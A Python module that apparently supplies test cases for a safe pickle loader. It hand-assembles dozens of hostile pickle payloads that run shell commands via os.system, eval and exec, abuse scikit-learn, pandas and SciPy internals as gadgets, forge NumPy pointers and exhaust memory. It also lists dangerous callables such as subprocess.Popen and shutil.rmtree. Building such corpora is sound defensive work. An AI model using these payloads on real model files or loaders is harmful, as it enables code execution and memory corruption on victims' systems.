"""Pickles made by hand to do harm, each with what it tries."""

from __future__ import annotations

PROTO = b"\x80\x05"


def text(value: str) -> bytes:
    """The opcodes that push a text."""
    content = value.encode()
    if len(content) < 256:
        return b"\x8c" + bytes([len(content)]) + content
    return b"X" + len(content).to_bytes(4, "little") + content


def name(module: str, attribute: str) -> bytes:
    """The opcodes that push what a module has under a name."""
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    """The opcodes of a call."""
    return function + b"(" + b"".join(arguments) + b"tR"


def new(cls: bytes, state: bytes) -> bytes:
    """The opcodes of a bare instance with a state."""
    return cls + b")\x81" + state + b"b"


def mapping(**items: bytes) -> bytes:
    """The opcodes of a dictionary."""
    return b"}(" + b"".join(text(key) + value for key, value in items.items()) + b"u"


SYSTEM = name("os", "system")
TOUCH = text("touch sprung")
FRAME = name("pandas.core.frame", "DataFrame")
RIDGE = name("sklearn.linear_model._ridge", "Ridge")
PARTIAL = name("functools", "partial")
DTYPE = name("numpy", "dtype")
ARRAY = name("numpy._core.multiarray", "_reconstruct")
NDARRAY = name("numpy", "ndarray")


def dtype(kind: str, state: bytes = b"") -> bytes:
    """The opcodes of a data type."""
    return call(DTYPE, text(kind), b"\x89", b"\x88") + state


def array(of: bytes, content: bytes) -> bytes:
    """The opcodes of an array of one thing."""
    empty = call(ARRAY, NDARRAY, b"K\x00\x85", b"C\x01b")
    return empty + b"(K\x01K\x01\x85" + of + b"\x89" + content + b"tb"


POINTERS = b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb"
ONE_POINTER = b"C\x08" + b"\x41" * 8

TRICKS: dict[str, bytes] = {
    "a command": call(SYSTEM, TOUCH),
    "the same of posix": call(name("posix", "system"), TOUCH),
    "the opcodes of old": b"cos\nsystem\n(S'touch sprung'\ntR",
    "an old instance": b"(S'touch sprung'\nios\nsystem\n",
    "an old object": b"(cos\nsystem\nS'touch sprung'\no",
    "protocol 2": b"\x80\x02cposix\nsystem\nq\x00X\x0c\x00\x00\x00touch sprungq\x01\x85q\x02Rq\x03",
    "a name in the memo": text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + TOUCH
    + b"\x85R",
    "a memo far away": b"N" + b"r\xff\xff\xff\x7f",
    "a text that is twice": SYSTEM + b"\x940h\x00" + TOUCH + b"\x85R",
    "eval": call(name("builtins", "eval"), text("__import__('os').system('touch sprung')")),
    "exec": call(name("builtins", "exec"), text("import os; os.system('touch sprung')")),
    "an import": call(name("builtins", "__import__"), text("antigravity")),
    "getattr on the way": call(
        call(name("builtins", "getattr"), call(name("builtins", "__import__"), text("os")),
             text("system")), TOUCH),
    "getattr of a class": call(name("builtins", "getattr"), RIDGE, text("__subclasses__")),
    "a template": call(call(name("builtins", "getattr"), name("builtins", "str"), text("format")),
                       text("{0.__class__.__init__.__globals__}"), RIDGE),
    "a tree of neighbours with half a state": call(
        name("sklearn.neighbors._kd_tree", "newObj"), name("sklearn.neighbors._kd_tree", "KDTree")
    ) + b"N\x85b",
    "a distance with half a state": call(
        name("sklearn.metrics._dist_metrics", "newObj"),
        name("sklearn.metrics._dist_metrics", "EuclideanDistance64"),
    ) + b"G\x40\x00\x00\x00\x00\x00\x00\x00\x85b",
    "a compiled class that nobody knows": new(name("sklearn.tree._criterion", "Gini"), b"}"),
    "a partial that is called": call(call(PARTIAL, SYSTEM), TOUCH),
    "a partial of a trusted name that is called": call(call(PARTIAL, name("numpy", "mean")), b"]"),
    "a dotted name": call(name("pandas.core.frame", "DataFrame.eval"), text("1")),
    "a dotted gadget": call(name("sklearn.linear_model._ridge", "Ridge.__init__.__globals__"), b"N"),
    "what a module imports": call(name("sklearn.utils.fixes", "os.system"), TOUCH),
    "what a module imports, plain": call(name("sklearn.base", "os"), TOUCH),
    "a class is altered": RIDGE + b"N" + mapping(predict=SYSTEM) + b"\x86b",
    "a class is altered by a key": RIDGE + b"(" + text("predict") + SYSTEM + b"u",
    "a function is altered": name("sklearn.metrics._classification", "accuracy_score")
    + mapping(__wrapped__=SYSTEM) + b"b",
    "a function's defaults": name("sklearn.metrics._classification", "accuracy_score")
    + b"N" + mapping(__defaults__=b")") + b"\x86b",
    "reading with NumPy": call(name("numpy", "load"), text("x.npy"), b"N", b"\x88"),
    "writing with NumPy": call(name("numpy", "save"), text("sprung"), b"K\x01"),
    "mapping a file": call(name("numpy", "memmap"), text("sprung"), text("uint8"), text("w+")),
    "joblib": call(name("joblib", "load"), text("x")),
    "a cache of joblib": call(name("joblib.memory", "Memory"), text("sprung")),
    "pandas": call(name("pandas", "read_pickle"), text("x")),
    "pandas' eval": call(name("pandas", "eval"), text("@__import__('os').system('touch sprung')")),
    "a frame by its scorer": call(
        new(name("sklearn.metrics._scorer", "_Scorer"),
            mapping(_score_func=SYSTEM, _response_method=text("to_csv"))),
        new(FRAME, b"}"), text("sprung"), b"N"),
    "a scorer of another method": new(name("sklearn.metrics._scorer", "_Scorer"),
                                      mapping(_response_method=text("to_pickle"))),
    "a text that SciPy executes": new(
        name("scipy.stats._continuous_distns", "norm_gen"),
        mapping(_parse_arg_template=text("import os; os.system('touch sprung')"))),
    "data sets": call(name("sklearn.datasets", "fetch_openml"), text("iris")),
    "a pickle in a pickle": call(name("pickle", "loads"), b"C\x03cos"),
    "cloudpickle": call(name("cloudpickle", "loads"), b"C\x03cos"),
    "a module by cloudpickle": call(name("cloudpickle.cloudpickle", "subimport"), text("os")),
    "code by value": call(name("types", "CodeType"), *[b"K\x00"] * 16),
    "what is not installed": call(name("nowhere.to.be", "found"), b"N"),
    "numbers that are pointers": array(dtype("f8", POINTERS), ONE_POINTER),
    "numbers that are pointers later": array(dtype("f8"), ONE_POINTER)
    + b"0" + dtype("f8") + b"\x940" + array(b"h\x00", ONE_POINTER) + b"0h\x00" + POINTERS[:-1] + b"b",
    "objects of bytes": array(dtype("O8"), ONE_POINTER),
    "a type of everybody's": call(DTYPE, text("f8"), b"\x89", b"\x89") + POINTERS,
    "an array of a buffer": call(NDARRAY, b"K\x01\x85", dtype("O8"), ONE_POINTER),
    "an array that is made twice": array(dtype("f8"), ONE_POINTER) + b"(K\x01K\x01\x85"
    + dtype("f8") + b"\x89" + ONE_POINTER + b"tb",
    "a generator without its memory": call(
        name("sklearn.neighbors._kd_tree", "newObj"), name("numpy.random._pcg64", "PCG64"))
    + b"}b",
    "a moment without its unit": dtype("m8", b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xff"
                                       b"J\xff\xff\xff\xffK\x00tb"),
    "more objects than there are": call(ARRAY, NDARRAY, b"K\x00\x85", b"C\x01b")
    + b"(K\x01M\xff\xff\x85" + dtype("O8") + b"\x89]tb",
    "a tree of no classes": call(
        name("sklearn.tree._tree", "Tree"), b"K\x02", array(dtype("i8"), b"C\x08" + bytes(8)),
        b"J\xff\xff\xff\x7f"),
    "an enormous range": call(name("builtins", "set"), call(name("builtins", "range"), b"\x8a\x06"
                                                            + b"\xff" * 5 + b"\x00")),
    "an enormous text of numbers": call(name("fractions", "Fraction"), text("1e999999999")),
    "an enormous bytearray": call(name("builtins", "bytearray"), b"\x8a\x06" + b"\xff" * 5 + b"\x00"),
    "tuples in tuples": b"}" + b")" + b"\x85" * 300_000 + b"Ns",
    "slices in slices": b"N" + b"".join([name("builtins", "slice") + b"\x940"]) + b"0"
    + b"h\x00N\x85R0" * 3,
    "an extension": b"\x82\x01",
    "something that persists": b"\x8c\x01xQ",
    "a buffer from outside": b"\x97",
    "an empty stack": b"0",
    "a mark alone": b"(",
    "a class of no name": b"NN\x93",
    "a call of nothing": b"N)R",
    "a state of nothing": b"NNb",
    "a lot of nothing": b"\x8e" + (1 << 62).to_bytes(8, "little"),
    "a list that holds itself": b"]\x94h\x00a",
}  # fmt: skip

#: Opcodes of a trick, to be put into other pickles.
SNIPPETS = [each for each in TRICKS.values() if len(each) < 10_000]
#: What a name is exchanged for.
GADGETS = [
    ("os", "system"), ("posix", "system"), ("subprocess", "Popen"), ("builtins", "eval"),
    ("builtins", "exec"), ("builtins", "getattr"), ("builtins", "type"), ("builtins", "open"),
    ("builtins", "__import__"), ("numpy", "load"), ("numpy", "ndarray"), ("numpy", "dtype"),
    ("numpy", "memmap"), ("joblib", "load"), ("pandas", "read_pickle"), ("functools", "partial"),
    ("functools", "reduce"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("importlib", "import_module"), ("pickle", "loads"), ("shutil", "rmtree"), ("sys", "exit"),
    ("sklearn.base", "clone"), ("sklearn.utils._testing", "assert_run_python_script_without_output"),
    ("sklearn.datasets", "load_files"), ("copyreg", "_reconstructor"), ("_codecs", "encode"),
    ("numpy._core.numeric", "_frombuffer"), ("numpy._core.multiarray", "scalar"),
    ("sklearn.tree._tree", "Tree"), ("sklearn.neighbors._kd_tree", "KDTree"),
    ("sklearn.neighbors._kd_tree", "newObj"), ("sklearn.utils._bunch", "Bunch"),
    ("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor"),
    ("sklearn._loss._loss", "CyHuberLoss"), ("sklearn.tree._splitter", "BestSplitter"),
    ("collections", "deque"), ("builtins", "bytearray"), ("builtins", "object"),
    ("pandas", "DataFrame"), ("scipy.sparse._csr", "csr_matrix"),
    ("numpy.random._mt19937", "MT19937"), ("numpy.random._pickle", "__bit_generator_ctor"),
    ("scipy.spatial._ckdtree", "cKDTree"), ("scipy.interpolate._bsplines", "BSpline"),
    ("catboost.core", "CatBoostClassifier"), ("xgboost.core", "Booster"),
]  # fmt: skip
